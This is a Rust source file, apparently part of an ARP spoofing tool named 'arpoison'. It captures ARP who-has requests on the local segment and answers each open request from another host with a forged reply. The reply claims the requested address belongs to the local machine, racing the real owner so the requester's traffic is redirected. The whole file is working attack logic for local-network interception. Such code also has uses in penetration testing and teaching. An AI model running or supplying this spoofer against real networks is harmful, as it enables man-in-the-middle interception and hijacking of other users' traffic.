//! Live who-has interception

use crate::forge::ArpForger;
use arpoison_core::{FrameCapture, MacAddr, Result};
use arpoison_packet::ArpPacket;
use std::net::Ipv4Addr;
use tracing::{debug, info, warn};

/// Inspect one captured frame and, if it is an open who-has request
/// from another host, answer it with a forged reply before the real
/// owner does.
///
/// Requests probing for our own address are left alone: the kernel
/// answers those truthfully, and racing it would be pointless. Returns
/// whether a forged answer went out.
pub fn handle_arp_frame(
    frame: &[u8],
    local_ip: Ipv4Addr,
    local_mac: MacAddr,
    forger: &ArpForger,
) -> bool {
    let arp = match ArpPacket::from_frame(frame) {
        Ok(arp) => arp,
        Err(e) => {
            debug!(error = %e, "ignoring unparseable frame");
            return false;
        }
    };

    if !arp.is_open_request() {
        return false;
    }
    if arp.sender_proto_addr == local_ip {
        return false;
    }

    info!(
        "got an ARP request from {}, claiming {} is at {}",
        arp.sender_proto_addr, arp.target_proto_addr, local_mac
    );

    match forger.forge(
        arp.target_proto_addr,
        local_mac,
        arp.sender_proto_addr,
        arp.sender_hw_addr,
    ) {
        Ok(()) => true,
        Err(e) => {
            warn!(error = %e, "failed to answer live request");
            false
        }
    }
}

/// Attach the watcher to a frame source.
///
/// Capture-setup failures come straight back to the caller; a spoofer
/// that cannot see the segment's requests should not claim to be
/// running.
pub fn watch(
    capture: &mut dyn FrameCapture,
    local_ip: Ipv4Addr,
    local_mac: MacAddr,
    forger: ArpForger,
) -> Result<()> {
    capture.start(
        &arpoison_capture::filters::arp(),
        Box::new(move |packet| {
            handle_arp_frame(packet.data(), local_ip, local_mac, &forger);
        }),
    )?;

    info!("ARP request watcher started");
    Ok(())
}
